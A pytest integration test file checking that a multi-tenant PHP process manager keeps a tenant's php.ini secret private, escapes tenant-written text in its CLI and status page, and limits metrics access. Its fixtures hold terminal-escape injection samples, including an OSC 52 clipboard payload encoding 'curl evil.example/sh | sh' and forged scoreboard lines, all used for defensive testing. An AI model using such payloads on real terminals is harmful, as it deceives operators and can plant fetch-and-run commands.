"""What operators and monitoring read, against tenants' text and other local users
(issue 36, attacks 6, 9, 11 and 14): the generated php.ini with `[ini]` secrets is the
tenant's alone, the CLI and the plain status page escape what a tenant wrote, and
/metrics and /status answer root and the monitoring group only."""

from __future__ import annotations

import os
import pwd
import stat
import subprocess
import threading
import urllib.request

import pytest

from tenantfpm.wire import fastcgi, scoreboard
from tests.integration.conftest import SLOW, as_user, body_ok, free_port, running_env
from tests.integration.test_fpm_status import scrape

FORGED_URI = ("/index.php\n\n************************\npid:                  1\n"
              "state:                Idle\nrequest URI:          /\x1b]0;owned\x07"
              "\x1b[2J\x1b[31mFAKE\x1b[0m")

# p: writes a forged URI into its own scoreboard (fd 4, its own), then holds the request
PY_APP = f'''
import os, time

def application(environ, start_response):
    if environ["PATH_INFO"] == "/forge":
        uri = {FORGED_URI.encode()!r}
        os.pwrite(4, uri.ljust(1024, b"\\0"), {scoreboard._TEXTS_AT + 64})
        time.sleep(3)
    start_response("200 OK", [("Content-Type", "text/plain")])
    return [b"ok"]
'''

GOOD_APP = '''
def application(environ, start_response):
    start_response("200 OK", [("Content-Type", "text/plain")])
    return [b"ok"]
'''

# e, once reloaded: a zygote that cannot start, and says why with terminal escapes (OSC 8,
# OSC 52 into root's clipboard, CSI clearing the screen)
EVIL_APP = '''
raise SystemExit("\\x1b]8;;https://evil.example/\\x1b\\\\click\\x1b]8;;\\x1b\\\\ "
                 "\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaAo=\\x1b\\\\"
                 "\\x1b[2J\\x1b[H\\x1b[1;32mall tenants OK\\x1b[0m")
'''


@pytest.fixture(scope="module")
def arena(users):
    metrics = free_port()
    with running_env(extra_master=f'metrics_listen = "127.0.0.1:{metrics}"\n'
                                  'status_listen = "<run_dir>/status.sock"') as env:
        env.metrics = metrics
        env.add(env.site("a", users[0], """
            [pm]
            mode = "static"
            max_children = 1
            [ini]
            "mysqli.default_pw" = "a-db-secret-123"
        """))
        for name, user, app in (("p", users[2], PY_APP), ("e", users[3], GOOD_APP)):
            env.add(env.python_site(name, user, app))
        env.users = users
        yield env


def test_a_tenants_php_ini_is_readable_by_root_and_that_tenant_only(arena):
    ini = arena.base / "run" / "tenants" / "a" / "php.ini"
    st = os.stat(ini)
    assert stat.S_IMODE(st.st_mode) == 0o640 and st.st_uid == 0
    assert st.st_gid == pwd.getpwnam(arena.users[0]).pw_gid
    for d in (ini.parent, ini.parent.parent):
        assert stat.S_IMODE(os.stat(d).st_mode) == 0o711  # passed through, not listed
    for other in (arena.users[1], arena.users[4]):  # another tenant's user, a local user
        r = subprocess.run(["cat", str(ini)], capture_output=True, text=True, **as_user(other))
        assert r.returncode != 0 and "a-db-secret" not in r.stdout, (other, r.stdout[-200:])
    r = arena.php("a", 'echo get_cfg_var("mysqli.default_pw");')  # its workers still read it
    assert body_ok(r) and r.body.decode() == "a-db-secret-123"


def test_the_cli_escapes_what_a_tenant_wrote(arena):
    (arena.base / "srv" / "e" / "app.py").write_text(EVIL_APP)  # its user's own file
    r = arena.cli("reload", "e", check=False)
    assert r.returncode != 0 and "\x1b" not in r.stdout + r.stderr, r
    arena.wait_for("e failed", lambda: arena.status("e")["state"] == "failed")
    def said(args: list[str]) -> str:
        r = arena.cli(*args, check=False)
        return r.stdout + r.stderr

    def with_reason(args: list[str]) -> str | None:
        text = said(args)
        return text if "evil.example" in text else None

    for args in (["list"], ["list", "--wide"], ["status", "e"], ["reload", "e"]):
        if args in (["list"], ["status", "e"]):  # where the reason is shown: while failed,
            # which the master's retries interrupt (starting again), so looked for until seen
            text = arena.wait_for(f"{args} with the reason", lambda args=args: with_reason(args))
        else:
            text = said(args)
        assert "\x1b" not in text and "\x07" not in text, (args, text)
    assert "\\x1b]52;c;" in arena.cli("status", "e", check=False).stdout


def test_the_plain_status_page_escapes_forged_scoreboard_text(arena):
    held = threading.Thread(target=lambda: fastcgi.request(
        arena.socket("p"), fastcgi.cgi_params(str(arena.base / "srv" / "p"), "/forge"),
        timeout=20 * SLOW))
    held.start()
    try:
        status = str(arena.base / "run" / "status.sock")
        arena.wait_for("the forged URI on the page", lambda: b"FAKE" in scrape(
            status, "/status/p", "full").stdout)
        page = scrape(status, "/status/p", "full").stdout
        assert b"\x1b" not in page and b"\x07" not in page, page
        lines = page.decode().splitlines()
        # one process block: the forged "pid: 1" stays inside its request URI line
        assert sum(1 for x in lines if x.startswith("pid:")) == 1, page
        assert any(x.startswith("request URI:") and "\\x0a" in x and "FAKE" in x
                   for x in lines), page
    finally:
        held.join()


CONNECT = r'''
import socket, sys
s = socket.socket()
s.settimeout(5)
try:
    s.connect(("127.0.0.1", int(sys.argv[1])))
    s.sendall(b"GET /status?full=1 HTTP/1.0\r\n\r\n")
    print("answered" if s.recv(64) else "closed")
except OSError as e:
    print("refused", e.errno)
'''


def test_metrics_and_status_answer_root_and_the_monitoring_group_only(arena):
    with urllib.request.urlopen(f"http://127.0.0.1:{arena.metrics}/status",
                                timeout=10) as r:  # root
        assert r.status == 200
    for who in (arena.users[4], "www-data" if _exists("www-data") else "nobody"):
        r = subprocess.run(["/usr/bin/python3", "-c", CONNECT, str(arena.metrics)],
                           capture_output=True, text=True, timeout=30, **as_user(who))
        assert r.stdout.startswith("refused"), (who, r.stdout, r.stderr)


def _exists(user: str) -> bool:
    try:
        pwd.getpwnam(user)
        return True
    except KeyError:
        return False

